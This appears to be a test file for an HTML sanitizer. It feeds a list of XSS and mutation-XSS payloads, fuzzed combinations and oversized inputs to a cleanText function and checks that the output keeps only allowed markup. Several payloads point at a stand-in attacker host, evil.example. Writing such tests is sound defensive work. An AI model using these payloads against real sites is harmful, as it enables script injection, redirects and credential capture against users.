import { describe, expect, test } from 'bun:test';
import fc from 'fast-check';
import { cleanText, hasContent, picturesIn } from './clean.ts';
import { ALLOWED_ELEMENTS, textLink } from './values.ts';

const PICTURE = 'a1'.repeat(16);

/** What has run somewhere where markup was taken on trust: filters, editors, mail, and the reading of markup twice (mXSS). */
const PAYLOADS = [
  '<script>hit()</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<img src=x onerror=hit()>',
  `<img data-picture="${PICTURE}" src=x onerror=hit()>`,
  '<img data-picture="x" onerror=hit()>',
  '<IMG """><SCRIPT>hit()</SCRIPT>">',
  '<svg onload=hit()>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><p><style><a id="</style><img src=1 onerror=hit()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<textarea><p title="</textarea><img src=x onerror=hit()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<a href="javascript:hit()">x</a>',
  '<a href="java\tscript:hit()">x</a>',
  '<a href="&#106;avascript:hit()">x</a>',
  '<a href=" &#x1;javascript:hit()">x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a href="vbscript:hit()">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/api/administrator/logout">x</a>',
  '<a href="https://name:secret@evil.example">x</a>',
  '<a href="https://a.example" onclick="hit()" style="position:fixed;inset:0" target=_top ping=//evil.example>x</a>',
  '<iframe srcdoc="<script>hit()</script>"></iframe>',
  '<object data="data:text/html,hit"></object><embed src=x>',
  '<base href="//evil.example/"><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=password><button>go</button></form>',
  '<p style="background:url(//evil.example)">x</p><style>@import "//evil.example"</style>',
  '<details open ontoggle=hit()>x</details><video src=x onerror=hit()></video>',
  '<div id=root class=wp-button data-path=x>x</div>',
  '<template><script>hit()</script></template><xmp><script>hit()</script></xmp>',
  '<p>a<!--><img src=x onerror=hit()>--></p>',
  '<![CDATA[<script>hit()</script>]]><?xml version="1"?><!doctype html>',
  '<p title="a>b" onmouseover=hit()>x',
  '\u0000<scr\u0000ipt>hit()</script>',
] as const;

/** A clean text has these alone; anything else in it that begins like markup is a way in. */
const TAG = new RegExp(
  `^(?:</?(?:${ALLOWED_ELEMENTS.join('|')})( /)?>|<a href="([^"<>]*)">|<img data-picture="[0-9a-f]{32}" alt="[^"<>]*" />)`,
);

function expectClean(html: string): void {
  const clean = cleanText(html);
  for (let at = clean.indexOf('<'); at !== -1; at = clean.indexOf('<', at + 1)) {
    const found = TAG.exec(clean.slice(at));
    if (found === null) throw new Error(`not clean at ${at}: ${clean} from ${html}`);
    const href = found[2]?.replaceAll('&amp;', '&');
    if (href !== undefined && textLink(href) === undefined) throw new Error(`leads to ${href}`);
  }
  // What is kept is what is shown: a second look at it changes nothing.
  expect(cleanText(clean)).toBe(clean);
}

describe('nothing of what people write runs, leads away or covers the page', () => {
  test.each(PAYLOADS.map((payload) => [payload]))('%s', (payload) => {
    expectClean(payload);
    expectClean(`<p>before${payload}after</p>`);
    expectClean(`<ul><li><a href="https://a.example/">${payload}</a></li></ul>`);
  });

  test('whatever is put together of such pieces', () => {
    const piece = fc.oneof(
      fc.constantFrom(...PAYLOADS, ...PAYLOADS.map((payload) => payload.slice(0, payload.length / 2))),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '&',
        '&lt;',
        '&#60;',
        '--',
        '/',
        '=',
        '<p',
        '</',
        '<a href=',
        ' on=x',
      ),
      fc.constantFrom(...ALLOWED_ELEMENTS.map((name) => `<${name}>`)),
      fc.constantFrom('</p>', '</style>', '</svg>', '</title>', '</textarea>', '<style>', '<title>', '<svg>'),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => expectClean(pieces.join(''))),
      { numRuns: 3_000 },
    );
  });

  test('what is deep, long or never closed is read in a moment', () => {
    const begun = process.cpuUsage();
    for (const html of [
      '<b>'.repeat(15_000),
      `${Array.from({ length: 3_000 }, (_, at) => `<b a=${at}>`).join('')}${'<p>'.repeat(3_000)}`,
      '<'.repeat(60_000),
      '<a '.repeat(20_000),
      '<!--'.repeat(15_000),
      `<p ${'x='.repeat(29_000)}>`,
    ])
      cleanText(html);
    // What was computed, not what the clock says: twenty times what it takes, however busy the machine is.
    const { user, system } = process.cpuUsage(begun);
    expect((user + system) / 1_000_000).toBeLessThan(5);
    const nested = cleanText(`${'<ul><li>'.repeat(50)}deep${'</li></ul>'.repeat(50)}`);
    expect(nested.match(/<ul>/g)?.length ?? 0).toBeLessThan(12);
  });
});

test('what is text stays as it was written', () => {
  const kept = `<h2>Help</h2><p>Call <a href="tel:+254700123456">us</a>, <strong>write</strong> to <a href="mailto:help@example.com">help</a> or <a href="https://example.com/?a=1&amp;b=2">look</a>.</p><ul><li><p>one</p></li><li><p><em>two</em></p></li></ul><blockquote><p>帮助 &amp; msaada</p></blockquote><hr /><img data-picture="${PICTURE}" alt="Our &quot;door&quot;" />`;
  expect(cleanText(kept)).toBe(kept);
  expect(picturesIn(kept)).toEqual([PICTURE]);
  // Names of before and of other editors.
  expect(cleanText('<h1>A</h1><div><b>b</b><i>i</i></div>')).toBe(
    '<h2>A</h2><p><strong>b</strong><em>i</em></p>',
  );
});

test('a text of which nobody would see anything has no content', () => {
  for (const empty of ['', '<p></p>', '<p><br /></p>', '<p>&nbsp; </p>', '<ul><li></li></ul>'])
    expect(hasContent(empty)).toBe(false);
  for (const full of ['a', '<p>a</p>', '<hr />', `<img data-picture="${PICTURE}" alt="" />`])
    expect(hasContent(full)).toBe(true);
});
